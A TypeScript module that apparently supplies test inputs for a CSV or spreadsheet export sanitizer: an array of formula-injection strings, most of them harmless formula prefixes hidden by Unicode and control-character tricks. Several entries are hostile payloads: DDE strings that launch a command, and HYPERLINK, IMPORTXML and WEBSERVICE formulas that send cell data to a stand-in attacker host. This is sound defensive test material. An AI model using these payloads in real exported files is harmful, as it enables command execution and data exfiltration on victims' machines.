/** Cells that a spreadsheet would run, or that hide what it would run. */
export const INJECTIONS: readonly string[] = [
  '=1+1', '+1+1', '-1+1', '@SUM(1)', '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', '＋1', '－1', '＠SUM(1)', ' =1+1', '\u00a0=1+1', '\u200b=1+1', '\ufeff=1+1', '\u202e=1+1', '\0=1+1',
  '=cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example?x="&A1,"click")', '=IMPORTXML("http://evil.example","//a")', '=WEBSERVICE("http://evil.example")', '-2+3+cmd|\' /C calc\'!A0', '@=1+1',
];
